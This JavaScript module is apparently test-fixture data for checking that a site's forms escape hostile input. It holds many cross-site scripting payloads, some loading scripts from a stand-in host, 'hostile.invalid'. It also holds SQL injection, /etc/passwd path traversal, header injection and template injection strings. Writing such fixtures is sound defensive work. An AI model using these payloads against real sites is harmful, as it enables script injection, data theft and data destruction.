// What people type into forms to break the pages that show it: ours, by the place that each tries
// to break out of. One that ran would raise a dialog or ask HOST for something.
export const HOST = 'hostile.invalid';

const ELEMENTS = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script/x>alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  `<script src=//${HOST}/a.js></script>`,
  `<script type=module>import "//${HOST}/b.js"</script>`,
  '<script>//<![CDATA[\nalert(1)\n//]]></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  `<img src=//${HOST}/c.png>`,
  `<img srcset="//${HOST}/d.png 1x">`,
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>',
  `<svg><use href=//${HOST}/e.svg#x></use></svg>`,
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<math href=javascript:alert(1)>x</math>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<iframe src=//${HOST}/f></iframe>`,
  `<frameset><frame src=//${HOST}/g></frameset>`,
  `<object data=//${HOST}/h.swf></object>`,
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  `<embed src=//${HOST}/i>`,
  `<link rel=stylesheet href=//${HOST}/j.css>`,
  `<link rel=prefetch href=//${HOST}/k>`,
  `<link rel=dns-prefetch href=//${HOST}>`,
  `<style>@import "//${HOST}/l.css";</style>`,
  `<style>*{background:url(//${HOST}/m.png)}</style>`,
  '<style onload=alert(1)></style>',
  `<meta http-equiv=refresh content="0;url=//${HOST}/n">`,
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  `<base href=//${HOST}/>`,
  `<form action=//${HOST}/o><button autofocus>Save</button></form>`,
  `<button form=note formaction=//${HOST}/p>Save</button>`,
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  `<video poster=//${HOST}/q.png></video>`,
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<p popover onbeforetoggle=alert(1)>x</p>',
  '<isindex type=image src=1 onerror=alert(1)>',
  `<a ping=//${HOST}/r href=/>x</a>`,
];

const WAYS_OUT = [
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</button></form><script>alert(1)</script>',
  '</main></body></html><script>alert(1)</script>',
  '</dd></dl></td></tr></table><img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '` onmouseover=alert(1) `',
  '" style="background:url(//hostile.invalid/s.png)',
  '--><script>alert(1)</script><!--',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<?php echo 1 ?><script>alert(1)</script>',
];

const ENCODED = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)//',
  'java\tscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  `//${HOST}/t`,
  `https://${HOST}/u`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&quot; onmouseover=&quot;alert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '＜script＞alert(1)＜/script＞',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '<\u0000script>alert(1)</script>',
  '\ufeff<script>\u200balert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

// Markup of ours and of others, and what other programs would take for orders.
const TONGUES = [
  '[[Maya: <script>alert(1)</script>]]',
  '{{opinion because <img src=x onerror=alert(1)>: x}}',
  '[x](javascript:alert(1))',
  `![x](//${HOST}/v.png)`,
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}#{alert(1)}<%= 7*7 %>',
  `=HYPERLINK("//${HOST}/w","x")`,
  "'; DROP TABLE note; --",
  '\r\nSet-Cookie: daybook=1\r\n\r\n<script>alert(1)</script>',
  '../../../../etc/passwd\u0000.html',
];

const bare = [...ELEMENTS, ...WAYS_OUT, ...ENCODED, ...TONGUES];

// Each as it is, breaking out of an attribute, and in the middle of words.
export const payloads = bare.flatMap((one) => [one, `"/></p></li></fieldset>${one}<x y="`, `words before ${one} and after`]);

// Lots of payloads that fit a field of so many characters; one too long for it goes alone.
export function lots(charactersMax, between = ' ') {
  const lots = [];
  let lot = '';
  for (const one of payloads) {
    const longer = lot ? lot + between + one : one;
    if (lot && longer.length > charactersMax) {
      lots.push(lot);
      lot = one;
    } else lot = longer;
  }
  return [...lots, lot];
}
